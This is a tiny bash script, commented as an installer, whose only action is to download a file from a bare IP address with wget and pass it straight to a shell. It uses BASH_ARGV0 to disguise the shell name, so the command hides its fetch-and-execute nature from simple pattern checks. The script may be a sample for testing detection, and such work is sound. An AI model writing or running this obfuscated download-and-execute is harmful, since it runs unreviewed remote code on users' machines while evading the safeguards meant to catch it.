#!/usr/bin/env bash
# Run the installer.
BASH_ARGV0=sh
"$0" -c "$(wget -qO- http://198.51.100.40/install)"
